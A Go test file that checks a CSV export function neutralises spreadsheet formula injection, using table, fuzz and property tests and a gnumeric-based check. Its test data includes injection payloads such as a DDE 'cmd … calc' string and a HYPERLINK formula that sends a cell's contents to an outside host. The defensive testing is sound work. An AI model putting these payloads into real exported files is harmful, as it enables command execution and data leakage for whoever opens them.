package report

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"pgregory.net/rapid"

	"roletrail/analyzer"
)

func TestCSVGoldens(t *testing.T) {
	golden(t, "usage-rows.csv", usageCSV(t, daysUsage()))
	golden(t, "events.csv", written(t, NewEventCSV, typicalEvents()))
}

func TestCSVText(t *testing.T) {
	for _, test := range []struct{ text, cell string }{
		{"", ""},
		{"ecsInfrastructureRole", "ecsInfrastructureRole"},
		{"arn:aws:iam::111122223333:role/a,\"b\"", "arn:aws:iam::111122223333:role/a,\"b\""},
		{"a=1 -b", "a=1 -b"},
		{"=1+1", "'=1+1"},
		{"+1", "'+1"},
		{"-1", "'-1"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"|calc", "'|calc"},
		{"%0", "'%0"},
		{"＝1+1", "'＝1+1"},
		{"＠x", "'＠x"},
		{"−1", "'−1"},
		{"  =1", "'  =1"},
		{` "=1`, `' "=1`},
		{"'", "''"},
		{"'=1", "''=1"},
		{"'quoted'", "''quoted'"},
		{"\t=1", `\t=1`},
		{"\r\n=1", `\r\n=1`},
		{"\u00a0=1", `\u00a0=1`},
		{"\ufeff=1", `\ufeff=1`},
		{"a;=1", `a\x3b=1`},
		{`C:\new;`, `C:\\new\x3b`},
		{"\x1b[2J\u202e\xff\U000e0001", `\x1b[2J\u202e\xff\U000e0001`},
		{"=\x00", `'=\x00`},
	} {
		if got := csvText(test.text); got != test.cell {
			t.Errorf("%q: %q, want %q", test.text, got, test.cell)
		}
		checkCSVText(t, test.text)
	}
}

// checkCSVText holds csvText to what docs/columns.md says: the cell is visible, is not taken for a formula, and can be undone.
func checkCSVText(t rapid.TB, text string) {
	t.Helper()
	cell := csvText(text)
	for _, r := range cell {
		if !visible(r) {
			t.Fatalf("%q: %q has %q", text, cell, r)
		}
	}
	if strings.Contains(cell, ";") {
		t.Fatalf("%q: %q has a semicolon", text, cell)
	}
	if begin := strings.Trim(cell, " \"\t\r\n"); begin != "" {
		if r, _ := utf8.DecodeRuneInString(begin); strings.ContainsRune("=+-@|%＝＋－＠", r) {
			t.Fatalf("%q: %q begins as a formula does", text, cell)
		}
	}
	if got := csvOriginal(t, cell); got != text {
		t.Fatalf("%q: became %q, which is %q", text, cell, got)
	}
}

// csvOriginal undoes csvText in the way that docs/columns.md tells programs to.
func csvOriginal(t rapid.TB, cell string) string {
	t.Helper()
	cell = strings.TrimPrefix(cell, "'")
	text, err := strconv.Unquote(`"` + strings.ReplaceAll(cell, `"`, `\"`) + `"`)
	if err != nil {
		t.Fatalf("%q: %v", cell, err)
	}
	return text
}

func FuzzCSVText(f *testing.F) {
	for _, seed := range slices.Concat(formulas, []string{"", hostile, `\`, `\x3b`, `"`, "'", "\\\xff;", "\ufffd"}) {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, text string) { checkCSVText(t, text) })
}

// csvRows are the header and the rows of a CSV file, which it checks to be a line each.
func csvRows(t rapid.TB, text []byte) (header []string, rows [][]string) {
	t.Helper()
	all, err := csv.NewReader(bytes.NewReader(text)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if n := bytes.Count(text, []byte("\r\n")); n != len(all) || bytes.Count(text, []byte("\n")) != n || bytes.Count(text, []byte("\r")) != n {
		t.Fatalf("%d rows are not as many lines that end in CR LF: %q", len(all), text)
	}
	return all[0], all[1:]
}

// checkCSV reads rows back, and compares them with what they were made from.
func checkCSV(t rapid.TB, text []byte, names []string, want [][]any) {
	t.Helper()
	header, rows := csvRows(t, text)
	if !slices.Equal(header, names) {
		t.Fatalf("columns %q, want %q", header, names)
	}
	if len(rows) != len(want) {
		t.Fatalf("%d rows, want %d", len(rows), len(want))
	}
	for n, row := range rows {
		for i, value := range want[n] {
			if got := csvOriginal(t, row[i]); got != csvPlain(value) {
				t.Fatalf("row %d, %s: %q, want %v", n, names[i], got, value)
			}
			if _, isText := value.(string); !isText && row[i] != csvPlain(value) {
				t.Fatalf("row %d, %s: %q, want %v as it is", n, names[i], row[i], value)
			}
		}
	}
}

// csvPlain is a value as CSV tells it before a text is made harmless.
func csvPlain(value any) string {
	switch value := value.(type) {
	case nil:
		return ""
	case time.Time:
		return value.UTC().Format("2006-01-02T15:04:05.999999999") + "Z"
	default:
		return fmt.Sprint(value)
	}
}

func TestUsageCSV(t *testing.T) {
	for _, u := range []*analyzer.Usage{emptyUsage(), daysUsage(), hostileDays(hostile), hostileDays(strings.Repeat("=x", 70_000))} {
		checkCSV(t, usageCSV(t, u), usageNames, usageValues(u))
	}
	rapid.Check(t, func(t *rapid.T) {
		u := anyDays(t)
		checkCSV(t, usageCSV(t, u), usageNames, usageValues(u))
	})
}

func TestEventCSV(t *testing.T) {
	for _, events := range [][]analyzer.Event{nil, typicalEvents(), hostileEvents(hostile)} {
		checkCSV(t, written(t, NewEventCSV, events), eventNames, eventValues(events))
	}
	rapid.Check(t, func(t *rapid.T) {
		events := anyEvents(t)
		checkCSV(t, written(t, NewEventCSV, events), eventNames, eventValues(events))
	})
}

// formulas are what one spreadsheet or another would run.
var formulas = []string{
	"=1+1", "+1+1", "-1+1", "@SUM(1,1)", `=HYPERLINK("http://example.com/?"&A1,"x")`, "=cmd|' /C calc'!A0", "|calc", "%PATH%", "\t=1+1", "\r=1+1", "\n=1+1",
	" =1+1", "\"=1+1", "\"=1+1\"", "'=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1,1)", "x;=1+1", "\";=1+1", "x\t=1+1", "x\r\n=1+1", "x\",=1+1", ",=1+1", "\ufeff=1+1", "\u00a0=1+1",
}

// What a real spreadsheet, which is given the file without being told anything of it, takes for a formula.
func TestSpreadsheetRunsNothing(t *testing.T) {
	if testing.Short() {
		t.Skip("needs ssconvert of gnumeric, which -short does without")
	}
	if n := spreadsheetFormulas(t, []byte("a,b\r\n=1+1,x\r\ny,=2+2\r\n")); n != 2 {
		t.Fatalf("%d formulas were found where 2 are, so nothing is proven", n)
	}
	events := typicalEvents()
	u := daysUsage()
	for _, formula := range formulas {
		events = append(events, hostileEvents(formula)...)
		u.Roles = append(u.Roles, hostileDays(formula).Roles...)
	}
	if n := spreadsheetFormulas(t, written(t, NewEventCSV, events)); n != 0 {
		t.Errorf("events: %d formulas", n)
	}
	if n := spreadsheetFormulas(t, usageCSV(t, u)); n != 0 {
		t.Errorf("uses: %d formulas", n)
	}
}

// spreadsheetFormulas counts the formulas of a CSV file once gnumeric has opened it.
func spreadsheetFormulas(t *testing.T, text []byte) int {
	t.Helper()
	folder := t.TempDir()
	from, to := filepath.Join(folder, "table.csv"), filepath.Join(folder, "table.xlsx")
	if err := os.WriteFile(from, text, 0o600); err != nil {
		t.Fatal(err)
	}
	command := exec.Command("ssconvert", "--export-type=Gnumeric_Excel:xlsx2", from, to)
	command.Env = append(os.Environ(), "HOME="+folder) // its settings are kept there
	if output, err := command.CombinedOutput(); err != nil {
		t.Fatalf("ssconvert (apt-get install gnumeric): %v\n%s", err, output)
	}
	book, err := zip.OpenReader(to)
	if err != nil {
		t.Fatal(err)
	}
	defer book.Close()
	sheet, err := book.Open("xl/worksheets/sheet1.xml")
	if err != nil {
		t.Fatal(err)
	}
	defer sheet.Close()
	markup, err := io.ReadAll(sheet)
	if err != nil {
		t.Fatal(err)
	}
	if rows := bytes.Count(text, []byte("\n")); bytes.Count(markup, []byte("<row ")) != rows {
		t.Fatalf("%d rows in the spreadsheet, %d in the file", bytes.Count(markup, []byte("<row ")), rows)
	}
	return bytes.Count(markup, []byte("<f>")) + bytes.Count(markup, []byte("<f "))
}
